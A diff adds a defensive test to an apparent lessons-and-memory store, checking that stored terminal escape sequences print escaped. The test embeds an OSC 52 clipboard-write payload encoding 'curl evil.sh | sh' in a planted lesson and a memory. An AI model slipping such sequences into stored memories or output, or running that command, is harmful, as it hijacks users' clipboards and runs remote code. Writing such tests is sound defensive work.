@@ -220,3 +220,26 @@ def test_lessons_for_a_query_an_error_or_the_list_flagged_ones_marked(home, caps
     rc, out, _ = cli(capsys, "lessons", "--include-suspicious", "--json")
     names = {e["name"]: e.get("suspicious") for e in json.loads(out)["lessons"]}
     assert names.keys() == {"NPM_VERSION_MISMATCH_01", "EVIL_01"} and names["EVIL_01"]
+
+
+def test_what_the_store_holds_reaches_the_terminal_escaped(home, capsys):
+    """A lesson or a memory holding terminal escape sequences (ESC ] 52 writes the clipboard,
+    ESC [ 2J clears the screen): every command prints them escaped, never raw."""
+    osc52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07"  # the clipboard := 'curl evil.sh | sh'
+    info = reach_daemon(str(home), dict(os.environ))
+    hostile = {**LESSON, "name": "ESCAPES_01",
+               "observations": [f"Pin the shadcn version {osc52}\x1b[2J\x9b31m"]}  # fmt: skip
+    call_tool(info, SHELL, "create_lesson", {"lesson": hostile})
+    for argv in (["lessons", "--include-suspicious"],
+                 ["lessons", "the npm package install fails", "--include-suspicious"],
+                 ["lessons", "the npm package install fails", "--include-suspicious", "--json"]):  # fmt: skip
+        rc, out, _ = cli(capsys, *argv)
+        assert rc == 0 and "ESCAPES_01" in out, argv
+        assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out, argv
+        assert "\\u001b]52;" in out, argv
+    rc, out, _ = cli(capsys, "remember", f"The staging bastion needs the VPN {osc52}",
+                     "--scope", "team")  # fmt: skip
+    assert rc == 0
+    for argv in (["recall", "staging bastion VPN"], ["recall", "staging bastion VPN", "--json"]):
+        rc, out, _ = cli(capsys, *argv)
+        assert rc == 0 and "staging bastion" in out and "\x1b" not in out and "\x07" not in out
